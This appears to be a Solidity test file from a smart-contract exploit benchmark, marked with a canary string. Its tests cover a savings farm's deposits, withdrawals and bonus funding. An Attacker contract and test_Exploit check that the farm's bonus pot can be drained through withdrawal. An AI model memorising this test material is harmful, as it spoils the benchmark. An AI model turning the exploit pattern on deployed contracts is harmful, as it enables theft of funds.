// SPDX-License-Identifier: MIT
pragma solidity 0.6.12;

import "./SavingsFarm.sol";
import "@openzeppelin/contracts@3.4.2/token/ERC20/ERC20.sol";

// assay-canary-cd7259f9-0c01-4ece-b937-7802a1a364a3

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Coin is ERC20 {
    constructor() public ERC20("Coin", "COIN") {
        _mint(msg.sender, 1000000e18);
    }
}

// A market whose receipts do not move.
contract StuckMarket {
    IERC20 public token;
    mapping(address => uint256) public balanceOf;

    constructor(IERC20 _token) public {
        token = _token;
    }

    function mint(uint256 _amount) external returns (uint256) {
        balanceOf[msg.sender] += _amount;
        token.transferFrom(msg.sender, address(this), _amount);
        return 0;
    }

    function transfer(address, uint256) external returns (bool) {
        return false;
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    address private constant COMPANY = address(0xC0);
    uint256 private constant START = 1700000000;

    Coin private coin;
    CreditMarket private market;
    SavingsFarm private farm;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        coin = new Coin();
        market = new CreditMarket(coin, 1e9);
        farm = new SavingsFarm();
        farm.add(market);
        coin.approve(address(farm), 5000e18);
        farm.fund(0, 1000e18, 100 days);
        mallory = new Attacker(farm, coin);
        coin.transfer(ANA, 1000e18);
        coin.transfer(address(mallory), 400e18);
        vm.startPrank(ANA);
        coin.approve(address(farm), 1000e18);
        farm.deposit(0, 600e18);
        vm.stopPrank();
        mallory.save();
        market.setCredit(COMPANY, 5000e18);
        vm.startPrank(COMPANY);
        market.draw(900e18);
        coin.approve(address(market), 5000e18);
        vm.stopPrank();
    }

    function bonusIsThere() public view returns (bool) {
        (, , , , , , , uint256 pot) = farm.poolInfo(0);
        return coin.balanceOf(address(farm)) >= pot;
    }

    function receiptsOf(address user) private view returns (uint256 amount) {
        (amount, , ) = farm.userInfo(0, user);
    }

    function test_Regular() public {
        vm.warp(START + 10 days);
        require(farm.pendingBonus(0, ANA) > 59e18 && farm.savingsOf(0, ANA) > 600e18, "bonus and interest");
        farm.updatePool(0);
        vm.startPrank(ANA);
        require(farm.harvest(0) > 59e18, "harvested");
        farm.withdraw(0, receiptsOf(ANA) / 20);
        require(coin.balanceOf(ANA) > 489e18, "withdrawn");
        farm.deposit(0, 100e18);
        vm.stopPrank();
        vm.prank(COMPANY);
        market.repay(500e18);
        vm.startPrank(ANA);
        farm.withdraw(0, receiptsOf(ANA) / 2);
        farm.emergencyWithdraw(0);
        vm.stopPrank();
        require(market.balanceOf(ANA) > 0 && receiptsOf(ANA) == 0 && bonusIsThere(), "receipts");
        require(farm.poolLength() == 1, "one pool");
        vm.warp(START + 100 days);
        farm.fund(0, 500e18, 50 days);
        vm.warp(START + 101 days);
        require(farm.pendingBonus(0, address(mallory)) < 960e18 && bonusIsThere(), "a day of the second bonus");
        farm.transferOwnership(ANA);
        vm.prank(ANA);
        farm.renounceOwnership();
    }

    function test_RefusesStrangers() public {
        vm.startPrank(ANA);
        vm.expectRevert("Ownable: caller is not the owner");
        farm.add(market);
        vm.warp(START + 100 days);
        vm.expectRevert("Ownable: caller is not the owner");
        farm.fund(0, 1, 1);
        vm.stopPrank();
    }

    function test_RefusesPools() public {
        vm.expectRevert("add: listed");
        farm.add(market);
        vm.warp(START + 100 days - 1);
        vm.expectRevert("fund: not over");
        farm.fund(0, 1, 1);
        vm.warp(START + 100 days);
        vm.expectRevert("fund: duration");
        farm.fund(0, 1, 0);
        vm.expectRevert("fund: duration");
        farm.fund(0, 1, 730 days + 1);
        farm.fund(0, 1, 730 days);
    }

    function test_RefusesUsers() public {
        vm.startPrank(BEN);
        vm.expectRevert("deposit: nothing");
        farm.deposit(0, 0);
        vm.expectRevert("emergency: nothing");
        farm.emergencyWithdraw(0);
        vm.expectRevert("harvest: nothing");
        farm.harvest(0);
        vm.stopPrank();
        uint256 receipts = receiptsOf(ANA);
        vm.startPrank(ANA);
        vm.expectRevert("withdraw: not good");
        farm.withdraw(0, 0);
        vm.expectRevert("withdraw: not good");
        farm.withdraw(0, receipts + 1);
        vm.stopPrank();
    }

    function test_RefusesMarkets() public {
        market.setClosed(true);
        vm.prank(ANA);
        vm.expectRevert("deposit: market");
        farm.deposit(0, 100e18);
        Coin other = new Coin();
        StuckMarket stuck = new StuckMarket(other);
        farm.add(CreditMarket(address(stuck)));
        other.approve(address(farm), 5e18);
        farm.deposit(1, 5e18);
        vm.expectRevert("emergency: market");
        farm.emergencyWithdraw(1);
    }

    function test_RefusesWithinMarkets() public {
        vm.expectRevert("market: rate");
        new CreditMarket(coin, 3e10 + 1);
        new CreditMarket(coin, 3e10);
        vm.startPrank(BEN);
        vm.expectRevert("Ownable: caller is not the owner");
        market.setClosed(true);
        vm.expectRevert("Ownable: caller is not the owner");
        market.setCredit(BEN, 1);
        vm.expectRevert("market: nobody");
        market.transfer(address(0), 0);
        vm.stopPrank();
    }

    // a single lender with next to no receipts, and somebody without a debt
    function test_RefusesGifts() public {
        vm.warp(START + 1 days);
        coin.approve(address(market), 1);
        require(market.repay(1) == market.TOO_SMALL(), "no debt");
        CreditMarket empty = new CreditMarket(coin, 1e9);
        coin.approve(address(empty), 1000);
        for (uint256 i = 0; i < 40; i++) {
            require(empty.mint(1) == 0, "lent");
            require(empty.redeem(empty.balanceOf(address(this)) - 1) == 0, "redeemed");
        }
        require(empty.balanceOf(address(this)) == 1 && empty.exchangeRate() < 201e14, "the rate hardly moves");
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(!bonusIsThere() && coin.balanceOf(address(mallory)) >= 399e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(farm);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    SavingsFarm private farm;
    IERC20 private coin;

    constructor(SavingsFarm f, IERC20 c) public {
        farm = f;
        coin = c;
    }

    function save() external {
        coin.approve(address(farm), 400e18);
        farm.deposit(0, 400e18);
    }

    function run() external {
        (uint256 receipts, , ) = farm.userInfo(0, address(this));
        farm.withdraw(0, receipts);
    }
}
